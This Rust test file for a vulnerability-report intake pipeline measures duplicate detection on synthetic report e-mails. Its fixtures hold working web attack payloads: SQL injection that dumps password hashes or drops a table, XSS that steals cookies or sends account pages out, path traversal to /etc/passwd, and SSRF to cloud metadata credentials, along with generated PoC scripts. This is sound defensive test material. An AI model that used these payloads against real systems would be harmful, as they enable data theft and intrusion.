//! Duplicate candidates through the real pipeline (issue 22), measured on reports the
//! test makes from templates: for each of 14 findings an original, a reworded copy
//! (other words for the same things, the steps in another order, another host in every
//! URL and in the PoC, another greeting), and for half of them a same-PoC copy (other
//! prose, the PoC attached with other comments, spacing and host) or the very file
//! again; the findings come in classes of one CWE (several SQL injections, XSS, path
//! traversals, SSRFs in other components of the same product), which must not score as
//! duplicates of each other. Prints precision and recall at every threshold and asserts
//! them at the default `[triage] duplicate_threshold`.
//!
//! Run: `cargo test --test duplicates -- --nocapture`.

mod support;

use chrono::{DateTime, Duration, Utc};
use secintake::pipeline::Pipeline;

fn pipeline(dir: &std::path::Path, extra: &str) -> Pipeline {
    support::offline_pipeline(dir, "Dup", "", extra)
}

/// One finding: what its reports have in common.
struct Finding {
    cwe: &'static str,
    title: &'static str,
    path: &'static str,
    param: &'static str,
    /// What the feature does (one sentence, the reporter's own words).
    feature: &'static str,
    /// What goes wrong (one sentence).
    flaw: &'static str,
    payload: &'static str,
    versions: &'static str,
    /// The PoC is a Python script (else an HTTP request).
    script: bool,
}

const FINDINGS: &[Finding] = &[
    Finding {
        cwe: "CWE-89",
        title: "SQL injection in the product search",
        path: "/api/products/search",
        param: "q",
        feature: "The product search lets shoppers filter the catalogue by a free text keyword and a price range.",
        flaw: "The keyword is concatenated into the ORDER BY clause of the catalogue query, so a quote ends the string and the rest of the keyword runs as SQL.",
        payload: "q=shoes'%20UNION%20SELECT%20email,password_hash%20FROM%20customers--",
        versions: "4.2.0 to 4.2.3",
        script: false,
    },
    Finding {
        cwe: "CWE-89",
        title: "SQL injection in the invoice export",
        path: "/admin/invoices/export",
        param: "month",
        feature: "Accountants export the invoices of one month as a CSV file from the billing dashboard.",
        flaw: "The month value is placed into a WHERE clause with string formatting in the exporter, and a stacked statement after a semicolon is executed as well.",
        payload: "month=2026-01';DROP%20TABLE%20audit_trail;--",
        versions: "4.1.0 to 4.2.3",
        script: true,
    },
    Finding {
        cwe: "CWE-89",
        title: "Blind SQL injection in the newsletter unsubscribe link",
        path: "/newsletter/unsubscribe",
        param: "token",
        feature: "Every newsletter carries an unsubscribe link with a token that identifies the subscriber.",
        flaw: "The token is matched with a LIKE pattern built from the raw value, and timing differences with SLEEP reveal the subscribers table one bit at a time.",
        payload: "token=abc'%20AND%20SLEEP(5)--",
        versions: "3.9.0 and later",
        script: false,
    },
    Finding {
        cwe: "CWE-89",
        title: "SQL injection through the warehouse sort order",
        path: "/api/warehouse/stock",
        param: "sort",
        feature: "Warehouse staff list stock levels per shelf and choose the column the table is sorted by.",
        flaw: "The sort column name goes unquoted into the statement because identifiers cannot be bound as parameters, and a subquery in it leaks the staff accounts.",
        payload: "sort=(SELECT%20password%20FROM%20staff%20LIMIT%201)",
        versions: "4.2.1",
        script: true,
    },
    Finding {
        cwe: "CWE-79",
        title: "Stored XSS in product reviews",
        path: "/reviews/new",
        param: "body",
        feature: "Customers write reviews under each product, and the reviews are shown to every visitor of the product page.",
        flaw: "The review text is rendered with the markdown renderer's raw HTML option on, so a script element in a review runs in the browser of everyone who reads it.",
        payload: "body=<script>fetch('/account').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))</script>",
        versions: "4.0.0 to 4.2.3",
        script: false,
    },
    Finding {
        cwe: "CWE-79",
        title: "Reflected XSS in the login error message",
        path: "/login",
        param: "next",
        feature: "After a failed login the form shows an error and keeps the page the user wanted to reach in a hidden next field.",
        flaw: "The next value is echoed into the value attribute without encoding quotes, so a double quote closes the attribute and an onfocus handler with autofocus fires.",
        payload: "next=%22%20autofocus%20onfocus=alert(document.cookie)%20x=%22",
        versions: "4.2.2 and 4.2.3",
        script: false,
    },
    Finding {
        cwe: "CWE-79",
        title: "XSS in the SVG avatar upload",
        path: "/profile/avatar",
        param: "file",
        feature: "Users upload a profile picture, which is served back from the same origin as the shop.",
        flaw: "SVG files are accepted and served with their own content type, so the onload attribute of an uploaded SVG runs as soon as the avatar URL is opened.",
        payload: "file=<svg xmlns='http://www.w3.org/2000/svg' onload='alert(origin)'/>",
        versions: "3.8.0 to 4.2.3",
        script: true,
    },
    Finding {
        cwe: "CWE-22",
        title: "Path traversal in the attachment download",
        path: "/files/download",
        param: "name",
        feature: "Support tickets can carry attachments, which agents download through a small file endpoint.",
        flaw: "The name is joined to the upload directory without normalising it, so dot-dot segments walk out of the directory and any file the service account can read is returned.",
        payload: "name=../../../../etc/passwd",
        versions: "4.2.0 to 4.2.3",
        script: true,
    },
    Finding {
        cwe: "CWE-22",
        title: "Directory traversal in the theme preview",
        path: "/themes/preview",
        param: "template",
        feature: "Administrators preview a storefront theme before activating it by choosing one of its templates.",
        flaw: "The template parameter is resolved relative to the themes folder and absolute paths or encoded dot-dot sequences are not rejected, which exposes the configuration with the database password.",
        payload: "template=..%2f..%2fconfig%2fdatabase.yml",
        versions: "4.1.2 to 4.2.3",
        script: false,
    },
    Finding {
        cwe: "CWE-22",
        title: "Zip slip in the product import",
        path: "/admin/import",
        param: "archive",
        feature: "Merchants import products in bulk from a zip archive of CSV files and images.",
        flaw: "Entries of the archive are extracted to the path their names give, so an entry named with leading dot-dot segments overwrites files outside the import folder, the cron scripts included.",
        payload: "archive=@evil.zip",
        versions: "4.0.0 to 4.2.3",
        script: true,
    },
    Finding {
        cwe: "CWE-918",
        title: "SSRF in the webhook test button",
        path: "/api/webhooks/test",
        param: "url",
        feature: "Integrations register a webhook URL and can press a button to send a test event to it.",
        flaw: "The server fetches any URL it is given, internal addresses included, and returns the response body, which reaches the cloud metadata service and its credentials.",
        payload: "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        versions: "4.2.0 to 4.2.3",
        script: false,
    },
    Finding {
        cwe: "CWE-918",
        title: "SSRF through the image proxy",
        path: "/img/proxy",
        param: "src",
        feature: "Product descriptions may embed remote pictures, which are fetched and resized by an image proxy.",
        flaw: "Redirects are followed without checking the target again, so an external URL that redirects to localhost reaches the admin port of the search cluster.",
        payload: "src=https://attacker.example.net/redirect-to-9200",
        versions: "3.9.0 to 4.2.3",
        script: true,
    },
    Finding {
        cwe: "CWE-352",
        title: "CSRF on the change e-mail form",
        path: "/account/email",
        param: "email",
        feature: "Customers change the e-mail address of their account from the account settings page.",
        flaw: "The form has no anti-forgery token and the session cookie is sent with cross-site posts, so a page on another site changes the address and then resets the password.",
        payload: "email=attacker%40evil.test",
        versions: "4.2.3",
        script: false,
    },
    Finding {
        cwe: "CWE-287",
        title: "Password reset token accepted after expiry",
        path: "/account/reset",
        param: "token",
        feature: "A forgotten password is reset with a link that carries a one-time token valid for an hour.",
        flaw: "The expiry is compared against the creation time in the wrong time zone and tokens are never invalidated after use, so an old link from a mailbox takes over the account.",
        payload: "token=2f1c0e9a&password=hunter22",
        versions: "4.2.0 to 4.2.3",
        script: false,
    },
];

/// Other words for the same things: what a rewording (by a person or a model) changes.
const REWORD: &[(&str, &str)] = &[
    ("lets", "allows"),
    ("users", "people"),
    ("Users", "People"),
    ("shows", "displays"),
    ("returned", "sent back"),
    ("runs", "is executed"),
    ("so a", "meaning a"),
    ("without", "with no"),
    ("any file", "every file"),
    ("reveal", "leak"),
    ("choose", "pick"),
    ("change", "modify"),
    ("from", "via"),
    ("The ", "Here the "),
    ("is placed", "ends up"),
    ("goes", "is inserted"),
    ("upload", "send"),
    ("exposes", "discloses"),
    ("reaches", "can access"),
];

fn reword(s: &str) -> String {
    let mut out = s.to_owned();
    for (a, b) in REWORD {
        out = out.replace(a, b);
    }
    out
}

fn poc(f: &Finding, host: &str, variant: usize) -> String {
    let (comment, spacing) =
        if variant == 0 { ("# PoC, run against a test shop", "") } else { ("# reproducer (local lab)", "  ") };
    if f.script {
        let (k, v) = f.payload.split_once('=').unwrap();
        format!(
            "{comment}\nimport requests\n\nr = requests.post(\"https://{host}{}\",{spacing} data={{\"{k}\": \"{v}\"}}{})\nprint(r.status_code){spacing}\nprint(r.text[:500])\n",
            f.path,
            if variant == 2 { ", timeout=10" } else { "" }
        )
    } else {
        let headers = if variant == 0 {
            format!(
                "Host: {host}\nUser-Agent: curl/8.5.0\nContent-Type: application/x-www-form-urlencoded\nX-Requested-With: XMLHttpRequest"
            )
        } else {
            format!(
                "Content-Type: application/x-www-form-urlencoded\nX-Requested-With: XMLHttpRequest\nHost: {host}:8443\nAccept: */*\nCookie: session=abc"
            )
        };
        format!("POST {} HTTP/1.1\n{headers}\n\n{}{}", f.path, f.payload, if variant == 2 { "&debug=1" } else { "" })
    }
}

/// The report text of a finding, in one of two wordings.
fn text(f: &Finding, host: &str, variant: usize, with_poc: bool) -> String {
    let url = format!("https://{host}{}", f.path);
    let (hello, bye) = if variant == 0 {
        ("Hello security team,", "Best regards,\nAlice")
    } else {
        ("Hi,", "Thanks,\nBob (independent researcher)")
    };
    let w = |s: &str| if variant == 0 { s.to_owned() } else { reword(s) };
    let mut steps = vec![
        format!("Log in to {url} with any customer account."),
        format!("Open the page that calls {} in a second browser tab.", f.path),
        format!("Send the request below with the {} parameter set to the payload.", f.param),
        "Observe the result in the response.".to_owned(),
    ];
    if variant == 1 {
        steps.swap(0, 1);
        steps = steps.iter().map(|s| reword(s)).collect();
    }
    let steps: String = steps.iter().enumerate().map(|(i, s)| format!("{}. {s}\n", i + 1)).collect();
    // A rewording's PoC differs in a detail too (variant 2): it must be found by its words.
    let poc = if with_poc {
        format!("\n```\n{}\n```\n", poc(f, host, if variant == 1 { 2 } else { 0 }))
    } else {
        String::new()
    };
    // Half the rewordings name no CWE and no versions: their words alone must find them.
    let labels = if variant == 1 && f.path.len() % 2 == 1 {
        String::new()
    } else {
        format!("{}: {}\nAffected versions: {}\n\n", f.cwe, f.path, f.versions)
    };
    format!("{hello}\n\n{} {}\n\n{labels}Steps to reproduce:\n{steps}{poc}\n{bye}\n", w(f.feature), w(f.flaw))
}

fn mail(from: &str, subject: &str, msgid: &str, body: &str, attachment: Option<(&str, &str)>) -> Vec<u8> {
    let body = body.replace('\n', "\r\n");
    let content = match attachment {
        None => format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{body}"),
        Some((name, data)) => format!(
            "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n\
             --b1\r\nContent-Type: text/plain; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\r\n{}\r\n--b1--\r\n",
            data.replace('\n', "\r\n")
        ),
    };
    format!("From: {from}\r\nTo: security@intake.test\r\nSubject: {subject}\r\nMessage-ID: <{msgid}>\r\n{content}")
        .into_bytes()
}

/// A report of the set: the finding it is about and the mail.
struct Report {
    finding: usize,
    kind: &'static str,
    raw: Vec<u8>,
}

fn reports() -> Vec<Report> {
    let mut out = Vec::new();
    for (i, f) in FINDINGS.iter().enumerate() {
        out.push(Report {
            finding: i,
            kind: "original",
            raw: mail(
                &format!("alice{i}@a.test"),
                f.title,
                &format!("o{i}@a.test"),
                &text(f, "shop.example.com", 0, true),
                None,
            ),
        });
    }
    for (i, f) in FINDINGS.iter().enumerate() {
        let subject = reword(f.title).to_lowercase();
        out.push(Report {
            finding: i,
            kind: "reworded",
            raw: mail(
                &format!("bob{i}@b.test"),
                &subject,
                &format!("r{i}@b.test"),
                &text(f, "10.20.30.40", 1, true),
                None,
            ),
        });
        if i % 2 == 0 {
            // The same PoC, attached with other comments, spacing and host; other prose.
            let prose = format!(
                "Hi, I found a problem in your shop, details in the attached file. It is {}.\nRegards, Carol",
                f.cwe
            );
            let file = poc(f, "staging.internal.test", 1);
            out.push(Report {
                finding: i,
                kind: "same-poc",
                raw: mail(
                    &format!("carol{i}@c.test"),
                    "Security problem",
                    &format!("p{i}@c.test"),
                    &prose,
                    Some(("poc.txt", &file)),
                ),
            });
        } else if i % 4 == 1 {
            // The very file a reworded copy would attach, sent again by someone else.
            let file = poc(f, "shop.example.com", 0);
            for (who, n) in [("dave", 0), ("erin", 1)] {
                out.push(Report {
                    finding: i,
                    kind: "same-file",
                    raw: mail(
                        &format!("{who}{i}@d.test"),
                        "vulnerability report",
                        &format!("f{i}-{n}@d.test"),
                        "Please see the attachment.",
                        Some(("exploit.txt", &file)),
                    ),
                });
            }
        }
    }
    out
}

/// (precision, recall, false pairs of unrelated findings) at `threshold`, over every
/// report that has an earlier report of its finding (recall) and every top candidate
/// at or over the threshold (precision).
/// A report's finding, its top candidate's finding and score, whether an earlier
/// report of its finding exists.
type Found = (usize, Option<(usize, f64)>, bool);

fn measure(found: &[Found], threshold: f64) -> (f64, f64, usize) {
    let (mut tp, mut fp, mut dup_total) = (0usize, 0usize, 0usize);
    for (finding, top, has_earlier) in found {
        if *has_earlier {
            dup_total += 1;
        }
        if let Some((f, s)) = top
            && *s >= threshold
        {
            if f == finding { tp += 1 } else { fp += 1 }
        }
    }
    let precision = if tp + fp == 0 { 1.0 } else { tp as f64 / (tp + fp) as f64 };
    let recall = if dup_total == 0 { 1.0 } else { tp as f64 / dup_total as f64 };
    (precision, recall, fp)
}

#[test]
fn duplicates_are_found_and_unrelated_reports_of_one_cwe_are_not() {
    let dir = tempfile::tempdir().unwrap();
    let p = pipeline(dir.path(), "");
    let t0 = DateTime::from_timestamp(Utc::now().timestamp(), 0).unwrap();
    let set = reports();
    let mut case_finding: std::collections::BTreeMap<String, usize> = Default::default();
    let mut seen = std::collections::BTreeSet::new();
    // (finding, the top candidate's finding and score, whether an earlier report exists)
    let mut found = Vec::new();
    let mut worst_unrelated: f64 = 0.0;
    let mut lowest_true: (f64, &str) = (1.0, "");
    for (n, r) in set.iter().enumerate() {
        let t = t0 + Duration::minutes(n as i64);
        let id = p.ingest(&r.raw, None, t, t).unwrap().case_id.unwrap();
        let c = p.store.case(&id).unwrap().unwrap();
        let top = c.duplicates.first().map(|d| (case_finding[&d.case], d.score));
        for d in &c.duplicates {
            if case_finding[&d.case] != r.finding {
                worst_unrelated = worst_unrelated.max(d.score);
                if d.score >= 0.45 {
                    println!("unrelated: {id} {} vs {} {:.2} {:?}", r.kind, d.case, d.score, d.why);
                }
            }
        }
        let best_true =
            c.duplicates.iter().filter(|d| case_finding[&d.case] == r.finding).map(|d| d.score).fold(0.0, f64::max);
        if r.kind == "reworded" && std::env::var_os("DUP_VERBOSE").is_some() {
            println!("reworded: {id} {:?}", c.duplicates.iter().find(|d| case_finding[&d.case] == r.finding));
        }
        if seen.contains(&r.finding) && best_true < lowest_true.0 {
            lowest_true = (best_true, r.kind);
        }
        if seen.contains(&r.finding) && top.is_none_or(|(f, _)| f != r.finding) {
            println!("missed: {} {} ({}) -> {:?}", id, r.kind, FINDINGS[r.finding].title, c.duplicates);
        }
        found.push((r.finding, top, seen.contains(&r.finding)));
        seen.insert(r.finding);
        case_finding.insert(id, r.finding);
    }
    let dups = found.iter().filter(|f| f.2).count();
    println!(
        "duplicate set: {} reports, {} findings ({} CWE classes), {dups} duplicates (reworded {}, same PoC {}, same file {})",
        set.len(),
        FINDINGS.len(),
        FINDINGS.iter().map(|f| f.cwe).collect::<std::collections::BTreeSet<_>>().len(),
        set.iter().filter(|r| r.kind == "reworded").count(),
        set.iter().filter(|r| r.kind == "same-poc").count(),
        set.iter().filter(|r| r.kind == "same-file").count(),
    );
    println!(
        "highest score of an unrelated report: {worst_unrelated:.2}; lowest best score of a true duplicate: {:.2} ({})",
        lowest_true.0, lowest_true.1
    );
    println!("threshold  precision  recall  false pairs");
    for th in [0.3, 0.35, 0.4, 0.45, 0.5, 0.55, 0.6, 0.65, 0.7, 0.8] {
        let (pr, rc, fp) = measure(&found, th);
        println!("  {th:.2}       {pr:.3}     {rc:.3}   {fp}");
    }
    let th = secintake::config::DEFAULT_DUPLICATE_THRESHOLD;
    let (precision, recall, _) = measure(&found, th);
    println!("at the default duplicate_threshold {th}: precision {precision:.3}, recall {recall:.3}");
    assert!(precision >= 0.95, "precision {precision}");
    assert!(recall >= 0.9, "recall {recall}");
    assert!(worst_unrelated < th, "an unrelated report scored {worst_unrelated}");

    // The summary of a duplicate names its original first; `case similar` agrees.
    let summary =
        p.store.outbox().unwrap().into_iter().filter(|o| o.kind == secintake::store::MailKind::Summary).count();
    assert_eq!(summary, set.len(), "every report has its summary");
}
